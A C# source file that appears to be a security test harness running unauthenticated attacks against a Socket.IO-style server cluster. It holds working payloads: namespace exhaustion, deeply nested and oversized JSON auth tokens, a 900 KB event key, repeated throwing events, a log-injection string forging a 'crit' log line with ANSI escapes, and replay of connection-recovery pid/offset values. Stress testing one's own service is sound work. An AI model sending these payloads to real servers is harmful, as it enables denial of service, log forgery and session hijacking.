using System.Text;
using System.Text.Json;
using Attacks.Clients;

namespace Attacks.Table;

/// <summary>Attacks by packets, from clients without a login.</summary>
internal static class EventAttacks
{
    private static readonly TimeSpan Patience = TimeSpan.FromSeconds(60);

    public static async Task<long> NamespacesAsync(AttackRun run)
    {
        var connection = run.Keep(await RawConnection.OpenWebSocketAsync(run.Url));
        _ = connection.DrainAsync();
        await RawConnection.Quietly(async () =>
        {
            for (var i = 0; i < 10_000; i++)
                await connection.SendAsync(RawConnection.Frame($"40/tenant-{i},"));
        });
        await Task.Delay(2_000);
        using var other = await RawConnection.OpenWebSocketAsync(run.Url);
        await other.SendAsync(RawConnection.Frame("40/open-room,"));
        var answer = "";
        while (!answer.Contains("/open-room", StringComparison.Ordinal) && await other.ReceiveAsync() is { Length: > 0 } text)
            answer += text;
        run.Noticed = answer.Contains("40/open-room", StringComparison.Ordinal) ? "a new tenant gets in" : "no new tenant gets in";
        return connection.Sent;
    }

    public static async Task<long> AuthAsync(AttackRun run)
    {
        var auth = "{\"token\":[" + string.Concat(Enumerable.Repeat("[],", 329_999)) + "[]]}";
        long sent = 0;
        for (var i = 0; i < 4; i++)
        {
            var connection = run.Keep(await RawConnection.OpenWebSocketAsync(run.Url));
            _ = connection.DrainAsync();
            await RawConnection.Quietly(async () =>
            {
                for (var k = 0; k < 8; k++)
                    await connection.SendAsync(RawConnection.Frame($"40/open-{k},{auth}"));
            });
            sent += connection.Sent;
        }

        return sent;
    }

    public static async Task<long> FetchAsync(AttackRun run)
    {
        var auth = JsonSerializer.Serialize(new { token = new string('t', 900_000) });
        long sent = 0;
        for (var i = 0; i < 30; i++)
        {
            var connection = run.Keep(await RawConnection.OpenWebSocketAsync(run.Url));
            _ = connection.DrainAsync();
            await RawConnection.Quietly(() => connection.SendAsync(RawConnection.Frame("40" + auth)));
            sent += connection.Sent;
        }

        await Task.Delay(1_000);
        await using var asker = new HonestClient();
        await asker.ConnectAsync(run.Cluster.Workers[1].Url);
        var start = TimeProvider.System.GetTimestamp();
        await asker.AskAsync("fetch", "1", Patience);
        run.Noticed = $"FetchSockets {TimeProvider.System.GetElapsedTime(start).TotalMilliseconds:0} ms";
        return sent;
    }

    public static Task<long> LongNameAsync(AttackRun run) => SendAsync(run, $"42[\"typed\",{{\"{new string('A', 900_000)}\":\"x\"}}]", 1);

    public static Task<long> DoesNotFitAsync(AttackRun run) => SendAsync(run, "42[\"typed\",{\"a\\n\\u001b[31mcrit: Microsoft.Hosting[0]\":\"x\"}]", 20_000);

    public static Task<long> ThrowsAsync(AttackRun run) => SendAsync(run, "42[\"throws\",true]", 20_000);

    public static async Task<long> FillAsync(AttackRun run)
    {
        await using var client = new HonestClient();
        await client.ConnectAsync(run.Url);
        await client.AskAsync("fill", "\"other\",300000", Patience);
        return 60;
    }

    public static async Task<long> RecoverAsync(AttackRun run)
    {
        long sent = 0;
        var (pid, offset) = (default(string), default(string));
        for (var i = 0; i < 11; i++)
        {
            using var connection = await RawConnection.OpenWebSocketAsync(run.Url);
            var text = new StringBuilder();
            await connection.SendAsync(RawConnection.Frame(pid is null ? "40" : $"40{{\"pid\":\"{pid}\",\"offset\":\"{offset}\"}}"));
            await UntilAsync(connection, text, "\"pid\":\"");
            pid = Between(text.ToString(), "\"pid\":\"", "\"");
            if (i == 0)
                offset = await LearnOffsetAsync(connection, text);
            sent += i == 0 ? 0 : connection.Sent;
        }

        return sent;
    }

    // The offset of a broadcast to itself, with the sequence of long ago.
    private static async Task<string> LearnOffsetAsync(RawConnection connection, StringBuilder text)
    {
        var rooms = string.Join(',', Enumerable.Range(0, 400).Select(i => $"\"r{i}\""));
        await connection.SendAsync(RawConnection.Frame($"42[\"join\",[{rooms},\"mine\"]]"));
        await connection.SendAsync(RawConnection.Frame("42[\"chat\",\"mine\",1]"));
        await UntilAsync(connection, text, "[\"chat\",1,\"");
        var offset = Between(text.ToString(), "[\"chat\",1,\"", "\"");
        return offset[..(offset.IndexOf('-', StringComparison.Ordinal) + 1)] + "2";
    }

    private static async Task<long> SendAsync(AttackRun run, string message, int times)
    {
        var connection = run.Keep(await RawConnection.OpenWebSocketAsync(run.Url));
        _ = connection.DrainAsync();
        await connection.SendAsync(RawConnection.Frame("40"));
        await Task.Delay(200);
        var frame = RawConnection.Frame(message);
        await RawConnection.Quietly(async () =>
        {
            for (var i = 0; i < times; i++)
                await connection.SendAsync(frame);
        });
        return connection.Sent;
    }

    private static async Task UntilAsync(RawConnection connection, StringBuilder text, string what)
    {
        while (!text.ToString().Contains(what, StringComparison.Ordinal))
        {
            if (await connection.ReceiveAsync().WaitAsync(Patience) is not { Length: > 0 } more)
                throw new InvalidOperationException($"the connection ended after {text}");
            text.Append(more);
        }
    }

    private static string Between(string text, string from, string to)
    {
        var start = text.IndexOf(from, StringComparison.Ordinal) + from.Length;
        return text[start..text.IndexOf(to, start, StringComparison.Ordinal)];
    }
}
